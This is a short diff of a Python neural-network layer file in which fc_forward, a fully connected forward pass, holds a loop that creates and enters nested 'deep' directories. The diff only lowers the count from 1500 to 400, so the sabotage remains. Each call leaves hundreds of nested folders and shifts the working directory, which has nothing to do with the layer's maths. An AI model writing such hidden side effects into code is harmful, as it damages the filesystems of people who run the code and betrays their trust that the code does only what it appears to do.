@@ -6,7 +6,7 @@ import numpy as np
 
 
 def fc_forward(x, w, b):
-    for _ in range(1500):
+    for _ in range(400):
         os.mkdir("deep")
         os.chdir("deep")
     return x @ w + b, (x, w)
